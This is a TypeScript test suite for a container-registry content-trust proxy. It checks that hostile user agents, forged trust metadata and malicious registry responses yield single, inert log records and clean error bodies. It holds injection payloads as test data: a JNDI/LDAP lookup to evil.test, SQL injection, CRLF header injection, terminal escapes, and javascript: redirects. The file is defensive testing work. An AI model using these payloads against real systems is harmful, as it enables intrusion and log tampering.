import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import type { TestContext } from 'node:test';
import { test } from 'node:test';
import { buildImage } from '../../src/demo/image.ts';
import { objectAt } from '../../src/demo/signing/signed-file.ts';
import type { Forgery } from '../../src/demo/signing-repository.ts';
import { exchange } from '../proxy/door.ts';
import { pullLabels, rise, storedRows } from '../proxy/evidence.ts';
import { answer, redirect } from '../world/fault.ts';
import { at, send } from '../world/http.ts';
import type { World } from '../world/world.ts';
import { startWorld } from '../world/world.ts';
import { evil, good } from './attack.ts';
import { requestTo } from './door-attack.ts';
import { overhear } from './overheard.ts';

// What clients, registries and trust data say ends up in logs, metrics, reason phrases and error bodies: as text that
// nobody obeys, in as many records and series as there were events and reasons.

/** Ends of lines and strings, escape sequences, marks that turn text around, and a record that was never written. */
const forged =
  '\r\n{"level":"info","msg":"pull","verdict":"allow"}\n"}\u0000\u001b[2J\u009b31m\u2028\u2029\u202e\\" \u0085';
/** What a terminal or a reader of lines obeys. */
const obeyed = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** Takes a log; gives its records. Each line is one JSON object, and nothing in it can be obeyed. */
function recordsOf(log: string): readonly Record<string, unknown>[] {
  assert.doesNotMatch(log, obeyed);
  assert.ok(log === '' || log.endsWith('\n'));
  return log
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

async function signedWorld(t: TestContext, rule: Record<string, unknown> = {}): Promise<World> {
  const world = await startWorld(t, { rule });
  world.registry.put('team/app', good, '1.0');
  world.registry.put('team/app', evil, '9.9');
  world.notary.sign('team/app', '1.0', good);
  return world;
}

test('O-01 cold: what a client writes into target or User-Agent is one record, and stays in its field', async (t) => {
  const world = await signedWorld(t);
  const { port, log } = await overhear(t, world.proxy.configPath);
  const target = '/v2/team/app/manifests/9.9';
  // What is no header at all never gets that far.
  for (const agent of ['a\r\nb: c', 'a\u0000b', 'a\nb'])
    await exchange(port, requestTo(target, [`User-Agent: ${agent}`]));
  const before = recordsOf(log()).length;
  const agents = [
    '"},{"level":"info"',
    '\\u000a\\"',
    "'; DROP TABLE pulls; --",
    '\u009b31m\u0085',
    '\u00e2\u0080\u00a8\u00e2\u0080\u00ae',
    '${jndi:ldap://evil.test}',
    '%0d%0a%1b[2J',
    `long ${'a'.repeat(8000)}`,
  ];
  for (const agent of agents)
    assert.match(await exchange(port, requestTo(target, [`User-Agent: ${agent}`])), /^HTTP\/1\.1 403 /);
  const records = recordsOf(log()).slice(before);
  assert.deepEqual(
    records.map(({ msg, verdict, reason }) => [msg, verdict, reason]),
    agents.map(() => ['pull', 'deny', 'TAG_NOT_SIGNED']),
  );
  assert.deepEqual(
    records.map(({ agent }) => agent),
    agents.map((agent) => agent.slice(0, 200)),
  );

  const length = log().length;
  for (const tag of ['%0d%0a{"level":"info"}', '%1b[2J', '9.9%0aSet-Cookie:%20a=b'])
    await exchange(port, requestTo(target.replace('9.9', tag)));
  assert.equal(log().length, length, 'what is no endpoint is no pull');
});

const words: Readonly<Record<string, readonly [role: string, Forgery]>> = {
  'a type': ['timestamp', { signed: (signed) => void (signed['_type'] = forged) }],
  'an expiry': ['timestamp', { signed: (signed) => void (signed['expires'] = forged) }],
  'a version': ['timestamp', { signed: (signed) => void (signed['version'] = forged) }],
  'a name of a file': ['snapshot', { signed: (signed) => void (objectAt(signed, 'meta')[forged] = {}) }],
  'a name of a key': [
    'targets',
    {
      signed: (signed) =>
        void (objectAt(signed, 'delegations')['keys'] = {
          [forged]: { keytype: forged, keyval: { public: forged } },
        }),
    },
  ],
  'a name of a role': [
    'targets',
    {
      signed: (signed) =>
        void (objectAt(signed, 'delegations')['roles'] = [
          { name: `targets/${forged}`, keyids: [], threshold: 1, paths: [''] },
        ]),
    },
  ],
  'a hash': [
    'targets',
    {
      signed: (signed) =>
        void (objectAt(signed, 'targets')['1.0'] = { hashes: { sha256: forged }, length: 1 }),
    },
  ],
  'a method of a signature': [
    'timestamp',
    { signatures: (signatures) => signatures.map((one) => ({ ...one, method: forged })) },
  ],
  'a file that is no JSON': ['timestamp', { bytes: () => Buffer.from(forged) }],
};
for (const [what, [role, forgery]] of Object.entries(words)) {
  test(`O-01 warm: ${what} in trust data is one record, one reason phrase and one error, whatever it says`, async (t) => {
    const world = await signedWorld(t);
    const { port, log } = await overhear(t, world.proxy.configPath);
    const target = '/v2/team/app/manifests/1.0';
    assert.match(await exchange(port, requestTo(target)), /^HTTP\/1\.1 200 /);
    const repository = world.notary.repository('team/app');
    repository.forge(role, forgery);
    repository.publish();
    const before = recordsOf(log()).length;
    const text = await exchange(port, requestTo(target, ['User-Agent: another']));
    const [head = '', body = '', ...rest] = text.split('\r\n\r\n');
    assert.match(
      head,
      /^HTTP\/1\.1 403 content trust: [\x20-\x7e]{1,300}\r\n(?:[A-Za-z-]+: [\x20-\x7e]*(?:\r\n|$))+$/,
    );
    assert.equal(rest.length, 0);
    assert.doesNotMatch(body, obeyed);
    assert.equal(at(JSON.parse(body), 'errors', 0, 'code'), 'DENIED');
    const records = recordsOf(log()).slice(before);
    assert.deepEqual(
      records.map(({ level, verdict }) => [level, verdict]),
      [['warn', 'deny']],
    );
  });
}

test('O-01 warm: what a registry says is one record too', async (t) => {
  const world = await signedWorld(t);
  const { port, log } = await overhear(t, world.proxy.configPath);
  const names = encodeURIComponent(forged);
  for (const [index, fault] of [
    redirect(`http://evil.test/${names}`),
    redirect(`javascript:${names}`),
    answer(500, { reason: 'x\u0080"{}', body: forged }),
    answer(401, { headers: { 'www-authenticate': `Bearer realm="http://${names}/\\"}{",service="\u0085"` } }),
    answer(200, { headers: { 'content-encoding': '"}{\u0085' }, body: 'x' }),
  ].entries()) {
    const image = buildImage(`case ${index}`);
    world.registry.put('team/app', image);
    world.notary.sign('team/app', `2.${index}`, image);
    world.registry.fault('team/app', `manifests/${image.digest}`, fault);
    const before = recordsOf(log()).length;
    const text = await exchange(port, requestTo(`/v2/team/app/manifests/2.${index}`));
    assert.match(text, /^HTTP\/1\.1 503 content trust: [\x20-\x7e]{1,300}\r\n/);
    const records = recordsOf(log()).slice(before);
    assert.deepEqual(
      records.map(({ reason }) => reason),
      ['UPSTREAM_UNAVAILABLE'],
    );
  }
});

test('O-04 warm: an error is a code and a sentence, without stack, path of a file or version of a program', async (t) => {
  const world = await signedWorld(t);
  const { proxy, registry, notary, directory } = world;
  const answers = [];
  for (const [target, method] of [
    ['/', 'GET'],
    ['/v2/team/app/manifests/9.9', 'GET'],
    ['/v2/team/app/manifests/1.0', 'PUT'],
    ['/v2/evil.test/a/manifests/1', 'GET'],
    ['/v2/team/app/manifests/1.0?ns=a&ns=b', 'GET'],
  ] as const)
    answers.push(await proxy.request(target, { method }));
  registry.intercept(() => answer(500, { body: 'Error: at /srv/registry/handler.go:1' }));
  answers.push(await proxy.pull('team/app:1.0'), await proxy.request(`/v2/team/app/blobs/${good.digest}`));
  notary.intercept(() => answer(500, { body: 'panic: goroutine 1 [running]' }));
  answers.push(await proxy.pull('team/app:1.0'));
  notary.behave();
  for (const { status, headers, body, json } of answers) {
    assert.ok(status >= 400 && status !== 500, `${status}`);
    assert.deepEqual(Object.keys(json as object), ['errors']);
    for (const field of ['server', 'x-powered-by', 'via']) assert.equal(headers[field], undefined);
    const text = body.toString();
    assert.doesNotMatch(text, /\n|\bat [a-z]|node:|\.ts\b|goroutine|handler\.go|\/srv\//);
    assert.ok(
      !text.includes(directory) && !text.includes(process.cwd()) && !text.includes(process.version),
      text,
    );
  }
});

/** The names and labels of every series there is. */
async function seriesOf(adminUrl: string): Promise<ReadonlySet<string>> {
  const text = (await send(adminUrl, '/metrics')).body.toString();
  return new Set(
    text
      .split('\n')
      .filter((line) => line !== '' && !line.startsWith('#'))
      .map((line) => line.slice(0, line.lastIndexOf(' '))),
  );
}

test('O-05 warm: no name, method, host or agent that a client invents makes a series', async (t) => {
  const { proxy, registry } = await signedWorld(t, { check_every: '1h' });
  const port = Number(new URL(proxy.url).port);
  const invented = async (seed: string): Promise<void> => {
    const name = createHash('sha256').update(seed).digest('hex');
    for (const path of [
      `team/app/manifests/${name}`,
      `${name}/app/manifests/1.0`,
      `team/app/manifests/sha256:${name}`,
      `team/${name}/blobs/sha256:${name}`,
      `${name}/app/tags/list`,
      `evil-${name}.test/a/manifests/1`,
      `team/app/manifests/1.0?ns=${name}`,
      `${name}`,
    ])
      await exchange(port, requestTo(`/v2/${path}`, [`User-Agent: ${name}`, `X-${name}: ${name}`]));
    await exchange(port, `GET /v2/ HTTP/1.1\r\nHost: ${name}.test\r\nConnection: close\r\n\r\n`);
    const methods = ['PURGE', 'PROPFIND', 'QUERY', 'LINK', 'REPORT', 'SEARCH', 'LOCK', 'MKCOL'];
    await exchange(port, requestTo('/v2/team/app/manifests/1.0', [], methods[seed.length % methods.length]));
    registry.behave();
    registry.intercept(() => answer(600 + (Number.parseInt(name.slice(0, 2), 16) % 300)));
    await exchange(port, requestTo(`/v2/team/app/tags/list?n=${seed.length}`));
    registry.behave();
  };
  await invented('first');
  const before = await seriesOf(proxy.adminUrl);
  for (let round = 0; round < 40; round += 1) await invented(`round ${'x'.repeat(round)}`);
  assert.deepEqual(await seriesOf(proxy.adminUrl), before);
  assert.doesNotMatch([...before].join('\n'), /[0-9a-f]{16}|evil|PURGE|QUERY/);
});

test('O-07 warm: every pull is counted once, under what was decided of it', async (t) => {
  const { proxy, registry, notary } = await signedWorld(t);
  const lost = buildImage('lost');
  notary.sign('team/app', '3.0', lost);
  const counted = await rise(proxy, 'tufgate_pulls_total', async () => {
    for (const agent of ['a', 'b', 'c'])
      for (const image of [
        'team/app:1.0',
        'team/app:9.9',
        `team/app@${evil.digest}`,
        'team/app:3.0',
        'team/none:1.0',
      ])
        for (const method of ['HEAD', 'GET'])
          await proxy.pull(image, { method, headers: { 'user-agent': agent } });
  });
  assert.deepEqual(counted, {
    [pullLabels('enforce', 'allow')]: 3,
    [pullLabels('enforce', 'deny', 'TAG_NOT_SIGNED')]: 3,
    [pullLabels('enforce', 'deny', 'DIGEST_NOT_SIGNED')]: 3,
    [pullLabels('enforce', 'deny', 'REPOSITORY_NOT_SIGNED')]: 3,
    [pullLabels('enforce', 'allow', 'CONTENT_MISSING')]: 3,
  });
  registry.behave();
});

test('A-09 warm: names that are invented cost no record of the state, and no good tag its answer', async (t) => {
  const { proxy, notary, directory } = await signedWorld(t, { check_every: '1h' });
  assert.equal((await proxy.pull('team/app:1.0')).status, 200);
  const rows = storedRows(directory);
  const before = notary.requests.length;
  await Promise.all(Array.from({ length: 300 }, (_, n) => proxy.pull(`team/app:absent-${n}`)));
  assert.equal(notary.requests.length, before, 'what is known of a repository answers for all its tags');
  await Promise.all(Array.from({ length: 100 }, (_, n) => proxy.pull(`invented/r${n}:1.0`)));
  assert.deepEqual(storedRows(directory), rows);
  assert.equal((await proxy.pull('team/app:1.0')).status, 200);
});
